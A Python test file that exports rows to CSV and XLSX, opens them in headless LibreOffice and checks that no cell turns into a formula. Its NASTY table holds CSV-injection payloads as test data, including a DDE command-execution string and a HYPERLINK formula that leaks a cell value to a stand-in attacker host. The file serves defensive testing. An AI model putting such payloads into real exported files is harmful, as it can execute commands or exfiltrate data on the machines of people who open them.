"""LibreOffice opens what the console writes: every text is text, none a formula, none lost."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path

import pytest

from console.listing import csv_writer, spreadsheet_values, workbook

NASTY = {
    "command": "=cmd|' /C calc'!A0",
    "sum": "=SUM(1+1)",
    "link": '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-1-1",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "full width": "＝1+1",
    "error": "#REF!",
    "number": "00123",
    "date": "2026-11-23",
    "emoji": "🐳 größe 漢字",
    "right to left": "\u202eשלום مرحبا",
    "quotes": "\"a\",'b';c",
    "lines": "one\ntwo",
    "markup": "<b>&amp;</b>]]>",
    "long": "x" * 40_000,
}


def opened(folder: Path, file: Path, *, options: str = "", convert: str = "csv", read: str = "") -> Path:
    """Return what LibreOffice makes of ``file``; ``options`` are those of its CSV filter, ``read`` how it reads."""
    office = shutil.which("soffice")
    if not office:
        pytest.fail(
            "LibreOffice is missing. Install it: apt-get install --no-install-recommends libreoffice-calc-nogui"
        )
    told = subprocess.run(
        [
            office, "--headless", "--norestore", f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            *([f"--infilter={read}"] if read else []), "--convert-to", f"{convert}{options}",
            "--outdir", str(folder / "out"), str(file),
        ],
        capture_output=True, text=True, timeout=110, check=True,
    )  # fmt: skip
    made = folder / "out" / f"{file.stem}.{convert}"
    assert made.is_file(), told.stdout + told.stderr
    return made


def test_the_workbook_opens_and_holds_no_formula(tmp_path: Path) -> None:
    file = tmp_path / "book.xlsx"
    at = datetime(2026, 11, 23, 12, 30)
    with file.open("wb") as target:
        told = workbook.write(
            target,
            title="Images",
            labels=("Name", "Text", "Number", "Time"),
            rows=[[name, text, 1234.5, at] for name, text in NASTY.items()] + [["control", "a\x00\x07\x1bb", 1, at]],
        )
    assert told.cut == 1
    # 44 comma, 34 quote, 76 UTF-8, from line 1; no cell as shown; formulas as formulas: one would stand there with "="
    out = opened(tmp_path, file, options=":Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false")
    head, *rows = csv.reader(io.StringIO(out.read_text("utf-8"), newline=""))
    assert head == ["Name", "Text", "Number", "Time"]
    shown = {row[0]: row[1] for row in rows}
    assert len(rows) == len(NASTY) + 1
    for name, text in NASTY.items():
        assert shown[name] == (
            text
            if name != "long"
            else "x" * (spreadsheet_values.MAX_CELL_CHARACTERS - len(spreadsheet_values.CUT_MARK))
            + spreadsheet_values.CUT_MARK
        ), name
    assert shown["control"] == "ab"
    assert {row[2] for row in rows[:-1]} == {"1234.5"}
    assert rows[0][3].startswith("2026-11-23 12:30")
    again = opened(tmp_path, file, convert="fods").read_text("utf-8")
    assert "table:formula" not in again
    assert again.count('office:value-type="date"') >= len(NASTY)


def test_the_csv_opens_and_holds_no_formula(tmp_path: Path) -> None:
    file = tmp_path / "list.csv"
    with file.open("wb") as target:
        csv_writer.write(target, labels=("Name", "Text"), rows=[[name, text] for name, text in NASTY.items()])
    utf_8 = "Text - txt - csv (StarCalc):44,34,76,1"
    again = opened(tmp_path, file, convert="fods", read=utf_8).read_text("utf-8")
    assert "table:formula" not in again
    assert "🐳 größe 漢字" in again


def test_a_workbook_is_frozen_filterable_and_has_widths() -> None:
    file = io.BytesIO()
    workbook.write(file, title="Images", labels=("A", "Long"), rows=[["x", "y" * 40], ["x", "z"]])
    xml = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in xml
    assert '<autoFilter ref="A1:B3"' in xml
    assert 'min="2" max="2"' in xml or 'max="2" min="2"' in xml
    assert 'width="42"' in xml
    assert "<f>" not in xml
